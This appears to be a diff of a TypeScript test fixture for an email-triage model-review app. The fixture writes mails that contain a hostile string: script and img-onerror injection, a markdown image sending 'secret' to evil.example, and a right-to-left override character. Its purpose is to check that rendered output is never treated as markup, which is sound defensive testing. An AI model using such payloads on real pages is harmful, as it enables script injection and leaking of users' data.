@@ -1,24 +1,35 @@
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
 import type { LifecyclePlan } from '../../domain/lifecycle-file/plan.js';
 import type { ModelPort } from '../../domain/ports/model.js';
 import type { ActivityWorld } from './activity-world.js';
 import { PROJECT } from './seeded-project.js';
 import { toyPlan } from './toy-plan.js';
 
-/** What a model could say to whoever shows its answers as anything but text. */
-const HOSTILE_ANSWER =
-  '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>![x](http://evil.example/?q=secret)\u202egnitpurroc\u202c';
+/** What somebody could write, or a model answer, to whoever shows it as anything but text. */
+const HOSTILE =
+  '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>![x](http://evil.example/?q=secret) \u202egnitpurroc\u202c';
 
-/** Tells made-up spam from ham, but for the mails whose number it gets wrong. */
-const modelThat = (errs: (number: number) => boolean, wrong?: string): ModelPort => ({
+/** Tells made-up spam from ham, but for the mails that it gets wrong. */
+const modelThat = (errs: (text: string) => boolean, wrong?: string): ModelPort => ({
   async chat({ model, messages }) {
     const text = messages.at(-1)?.content ?? '';
     const right = /winner|prize|cash|bonus|offer/.test(text) ? 'spam' : 'ham';
-    const number = Number(/Subject (\d+):/.exec(text)?.[1] ?? 0);
-    const content = errs(number) ? (wrong ?? (right === 'spam' ? 'ham' : 'spam')) : right;
+    const content = errs(text) ? (wrong ?? (right === 'spam' ? 'ham' : 'spam')) : right;
     return { model, content, promptTokens: 1, completionTokens: 1 };
   },
   list: async () => ['served'],
 });
+
+const numberOf = (text: string): number => Number(/Subject (\d+):/.exec(text)?.[1] ?? 0);
+
+/** Mails of which a page must not take a word for markup, among the others. */
+export async function writeHostileMails(folder: string): Promise<void> {
+  const lines = Array.from({ length: 20 }, (_, number) =>
+    JSON.stringify({ input: `Agenda ${number} of the kernel meeting ${HOSTILE}`, at: new Date(number).toISOString() }),
+  );
+  await writeFile(join(folder, 'toys', 'ham', 'hostile.jsonl'), `${lines.join('\n')}\n`);
+}
 
 const plan = (over: Partial<LifecyclePlan> = {}): LifecyclePlan => {
   const toy = toyPlan();
@@ -51,7 +62,7 @@ async function serveChampion(world: ActivityWorld): Promise<void> {
   const { dependencies } = world;
   const { revision } = await dependencies.registry.route(PROJECT, 'email-triage');
   if (revision > 0) return;
-  const local = modelThat((number) => number % 11 === 0);
+  const local = modelThat((text) => numberOf(text) % 11 === 10);
   world.dependencies.models['local'] = local;
   const { release } = await world.approvedRun(plan());
   await dependencies.registry.move({
@@ -68,15 +79,18 @@ async function serveChampion(world: ActivityWorld): Promise<void> {
 }
 
 /**
- * An open request about a candidate that is better than the champion on the whole, worse on some mails, and answers
- * one with what a page must not take for markup.
+ * An open request about a candidate that is better than the champion on the whole, and worse on some mails. `hostile`:
+ * what it answers wrongly is markup.
  */
-export async function openReviewedRequest(world: ActivityWorld): Promise<{ requestId: string; runId: string }> {
+export async function openReviewedRequest(
+  world: ActivityWorld,
+  { hostile = false }: { hostile?: boolean } = {},
+): Promise<{ requestId: string; runId: string }> {
   await serveChampion(world);
-  const { model: toyModel } = { model: modelThat((number) => number % 23 === 5, HOSTILE_ANSWER) };
   const { runId, curated } = await world.curatedRun(plan({ train: { hyperparameters: { epochs: 30 }, seed: 8 } }));
   const model = await world.registered(runId);
-  world.dependencies.models['local'] = toyModel;
+  const isHard = (text: string): boolean => numberOf(text) % 46 === 5 || text.includes('<script>');
+  world.dependencies.models['local'] = modelThat(isHard, hostile ? HOSTILE : undefined);
   const asked = { runId, task: 'triage', curated, versionId: model.versionId };
   const predictions = [await world.perform('predictTask', asked)];
   const evaluated = await world.perform('judgeEvaluation', { runId, curated, model, predictions });
